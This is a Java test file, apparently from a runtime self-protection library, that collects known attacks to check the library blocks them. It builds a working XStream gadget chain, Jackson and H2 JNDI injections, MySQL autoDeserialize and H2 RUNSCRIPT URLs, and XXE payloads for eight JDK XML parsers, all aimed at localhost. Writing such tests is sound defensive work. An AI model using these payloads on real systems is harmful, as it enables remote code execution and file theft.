package io.github.raspspring.carrier.jvm;

import java.io.StringReader;
import java.io.StringWriter;
import java.sql.Driver;
import java.sql.DriverManager;
import java.util.List;
import java.util.Properties;
import java.util.stream.Stream;

import javax.xml.parsers.SAXParserFactory;
import javax.xml.stream.XMLEventReader;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamReader;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.stream.StreamResult;
import javax.xml.transform.stream.StreamSource;
import javax.xml.validation.SchemaFactory;
import javax.xml.xpath.XPathFactory;

import org.xml.sax.InputSource;
import org.xml.sax.helpers.DefaultHandler;

/**
 * Known attacks by documents that name classes, by drivers that make objects, and by
 * parsers of XML.
 */
final class DataAttack {

	private static final Libraries XSTREAM = Libraries.of("xstream", "mxparser", "xmlpull", "commons-beanutils",
			"commons-collections", "commons-logging-1.2", "postgresql-42.3.1");

	private DataAttack() {
	}

	static List<KnownAttack> all(Damage damage, String factory) throws Exception {
		String ldap = "ldap://127.0.0.1:" + damage.port() + "/x";
		String url = "http://127.0.0.1:" + damage.port() + "/";
		FakeMySql mySql = new FakeMySql(GadgetChains.collections(damage));
		Stream<KnownAttack> documents = Stream.of(
				new KnownAttack("XStream", xstream(factory), "<list><string>a</string></list>",
						(input) -> XSTREAM.make("com.thoughtworks.xstream.XStream").call("fromXML", input)),
				new KnownAttack("Jackson", "[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"" + ldap + "\"}]",
						"[\"java.util.HashMap\",{\"a\":1}]", DataAttack::jackson),
				new KnownAttack("MySQL autoDeserialize",
						"shop?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors"
								+ ".ServerStatusDiffInterceptor",
						"shop", (input) -> mySql(mySql.port(), input)),
				new KnownAttack("H2 console", ldap, "b", DataAttack::h2),
				new KnownAttack("H2 RUNSCRIPT", "a;INIT=RUNSCRIPT FROM '" + url + "x.sql'", "c",
						(input) -> DriverManager.getConnection("jdbc:h2:mem:" + input).close()));
		return Stream.concat(documents, parsers(url)).toList();
	}

	private static Stream<KnownAttack> parsers(String url) {
		return Stream.of(
				xxe("XXE by SAX", url,
						(input) -> SAXParserFactory.newInstance()
							.newSAXParser()
							.parse(new InputSource(new StringReader(input)), new DefaultHandler())),
				xxe("XXE by StAX", url, DataAttack::stax), xxe("XXE by events of StAX", url, DataAttack::events),
				xxe("XXE by a validator", url, (input) -> SchemaFactory.newDefaultInstance()
					.newSchema(new StreamSource(new StringReader(
							"<schema xmlns=\"http://www.w3.org/2001/XMLSchema\"><element name=\"a\"/></schema>")))
					.newValidator()
					.validate(new StreamSource(new StringReader(input)))),
				xxe("XXE by a stylesheet", url,
						(input) -> TransformerFactory.newInstance()
							.newTemplates(new StreamSource(new StringReader(input)))),
				xxe("XXE by TrAX", url, (input) -> TransformerFactory.newInstance()
					.newTransformer()
					.transform(new StreamSource(new StringReader(input)), new StreamResult(new StringWriter()))),
				xxe("XXE by XPath", url,
						(input) -> XPathFactory.newInstance()
							.newXPath()
							.evaluate("/a", new InputSource(new StringReader(input)))),
				xxe("XXE by a schema", url, (input) -> SchemaFactory.newDefaultInstance()
					.newSchema(new StreamSource(new StringReader(input)))));
	}

	private static KnownAttack xxe(String name, String url, KnownAttack.Use use) {
		return new KnownAttack(name, "<!DOCTYPE a [<!ENTITY x SYSTEM \"" + url + "\">]><a>&x;</a>", "<a>b</a>", use);
	}

	/**
	 * A queue that compares data sources by their connection.
	 */
	private static String xstream(String factory) throws Exception {
		String collections = "org.apache.commons.collections.comparators.ComparableComparator";
		String comparator = "<comparator class=\"org.apache.commons.beanutils.BeanComparator\">"
				+ "<property>connection</property><comparator class=\"" + collections + "\"/></comparator>";
		Libraries.Thing source = XSTREAM.make("org.postgresql.ds.PGSimpleDataSource");
		source.call("setURL", factory);
		String element = (String) XSTREAM.make("com.thoughtworks.xstream.XStream")
			.call("toXML", Object.class, source.target())
			.target();
		String queue = "java.util.PriorityQueue";
		return "<" + queue + " serialization=\"custom\"><unserializable-parents/><" + queue + "><default><size>2</size>"
				+ comparator + "</default><int>3</int>" + element + element + "</" + queue + "></" + queue + ">";
	}

	private static void jackson(String input) throws Exception {
		Libraries.Thing mapper = Libraries
			.of("jackson-databind-2.9.8", "jackson-core-2.9.8", "jackson-annotations-2.9.8", "HikariCP", "slf4j-api")
			.make("com.fasterxml.jackson.databind.ObjectMapper");
		mapper.call("enableDefaultTyping");
		mapper.call("readValue", String.class, input, Class.class, Object.class);
	}

	private static void mySql(int port, String input) throws Exception {
		Libraries library = Libraries.of("mysql-connector", "commons-collections");
		((Driver) library.make("com.mysql.cj.jdbc.Driver").target())
			.connect("jdbc:mysql://127.0.0.1:" + port + "/" + input, new Properties())
			.close();
	}

	/** The console of H2 takes a driver and a URL from whoever finds it. */
	private static void h2(String input) throws Exception {
		boolean directory = input.startsWith("ldap:");
		Libraries.of("h2-1.4.200")
			.type("org.h2.util.JdbcUtils")
			.call("getConnection", directory ? "javax.naming.InitialContext" : "org.h2.Driver",
					directory ? input : "jdbc:h2:mem:" + input, "", "");
	}

	private static void stax(String input) throws Exception {
		XMLStreamReader reader = XMLInputFactory.newInstance().createXMLStreamReader(new StringReader(input));
		while (reader.hasNext()) {
			reader.next();
		}
	}

	private static void events(String input) throws Exception {
		XMLEventReader reader = XMLInputFactory.newInstance().createXMLEventReader(new StringReader(input));
		while (reader.hasNext()) {
			reader.nextEvent();
		}
	}

}
